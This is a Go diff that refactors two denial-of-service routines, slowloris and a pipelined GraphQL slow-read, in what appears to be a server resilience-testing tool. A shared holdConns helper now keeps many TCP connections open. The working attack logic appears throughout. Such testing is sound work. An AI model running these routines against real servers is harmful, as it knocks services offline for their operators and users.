@@ -522,42 +522,25 @@ func (a *attacker) requestAttack(ctx context.Context, name string, u uint64) {
 // slowloris holds up to n connections that send a request's headers and
 // then its body one byte every 2 s; each ends when the server cuts it.
 func (a *attacker) slowloris(ctx context.Context, n int, st *attackStats) {
-	sem := make(chan struct{}, n)
-	for ctx.Err() == nil {
-		select {
-		case sem <- struct{}{}:
-		case <-ctx.Done():
-			return
-		}
-		go func() {
-			defer func() { <-sem }()
-			start := time.Now()
-			conn, err := net.DialTimeout("tcp", a.c.cfg.base.Host, 5*time.Second)
-			if err != nil {
-				st.note("dial error", 0, 0)
-				time.Sleep(time.Second)
-				return
-			}
-			defer conn.Close()
-			fmt.Fprintf(conn, "POST /query HTTP/1.1\r\nHost: %s\r\nContent-Type: application/json\r\nContent-Length: 100000\r\n\r\n{", a.c.cfg.base.Host)
-			defer func() {
-				if ctx.Err() != nil {
-					st.note("held to the end", 0, time.Since(start))
-				}
-			}()
-			for ctx.Err() == nil {
-				if _, err := conn.Write([]byte(" ")); err != nil {
-					st.note("cut by server", 0, time.Since(start))
-					return
-				}
-				conn.SetReadDeadline(time.Now().Add(2 * time.Second))
-				if _, err := conn.Read(make([]byte, 1)); err == nil || !isTimeout(err) {
-					st.note("cut by server", 0, time.Since(start))
-					return
-				}
+	a.holdConns(ctx, n, st, func(conn net.Conn, start time.Time) {
+		fmt.Fprintf(conn, "POST /query HTTP/1.1\r\nHost: %s\r\nContent-Type: application/json\r\nContent-Length: 100000\r\n\r\n{", a.c.cfg.base.Host)
+		defer func() {
+			if ctx.Err() != nil {
+				st.note("held to the end", 0, time.Since(start))
 			}
 		}()
-	}
+		for ctx.Err() == nil {
+			if _, err := conn.Write([]byte(" ")); err != nil {
+				st.note("cut by server", 0, time.Since(start))
+				return
+			}
+			conn.SetReadDeadline(time.Now().Add(2 * time.Second))
+			if _, err := conn.Read(make([]byte, 1)); err == nil || !isTimeout(err) {
+				st.note("cut by server", 0, time.Since(start))
+				return
+			}
+		}
+	})
 }
 
 // slowRead holds up to n connections that ask for the whole schema's
@@ -569,6 +552,26 @@ func (a *attacker) slowRead(ctx context.Context, n int, st *attackStats) {
 		q = `{ __schema { types { name description fields { name description args { name description type { name } } type { name kind ofType { name kind } } } } } }`
 	}
 	body, _ := json.Marshal(map[string]any{"query": q})
+	a.holdConns(ctx, n, st, func(conn net.Conn, start time.Time) {
+		if tc, ok := conn.(*net.TCPConn); ok {
+			tc.SetReadBuffer(4096) // a small window: the server's writes stall
+		}
+		// Pipelined: many answers queued behind a reader that does not read.
+		for range 20 {
+			fmt.Fprintf(conn, "POST /query HTTP/1.1\r\nHost: %s\r\nContent-Type: application/json\r\nContent-Length: %d\r\n\r\n%s", a.c.cfg.base.Host, len(body), body)
+		}
+		select {
+		case <-ctx.Done():
+		case <-time.After(90 * time.Second):
+		}
+		st.note("held", 0, time.Since(start))
+	})
+}
+
+// holdConns keeps up to n TCP connections to the server open at once,
+// each dialled afresh when the last one ends, and runs hold on each until
+// it returns or ctx ends.
+func (a *attacker) holdConns(ctx context.Context, n int, st *attackStats, hold func(conn net.Conn, start time.Time)) {
 	sem := make(chan struct{}, n)
 	for ctx.Err() == nil {
 		select {
@@ -586,18 +589,7 @@ func (a *attacker) slowRead(ctx context.Context, n int, st *attackStats) {
 				return
 			}
 			defer conn.Close()
-			if tc, ok := conn.(*net.TCPConn); ok {
-				tc.SetReadBuffer(4096) // a small window: the server's writes stall
-			}
-			// Pipelined: many answers queued behind a reader that does not read.
-			for range 20 {
-				fmt.Fprintf(conn, "POST /query HTTP/1.1\r\nHost: %s\r\nContent-Type: application/json\r\nContent-Length: %d\r\n\r\n%s", a.c.cfg.base.Host, len(body), body)
-			}
-			select {
-			case <-ctx.Done():
-			case <-time.After(90 * time.Second):
-			}
-			st.note("held", 0, time.Since(start))
+			hold(conn, start)
 		}()
 	}
 }
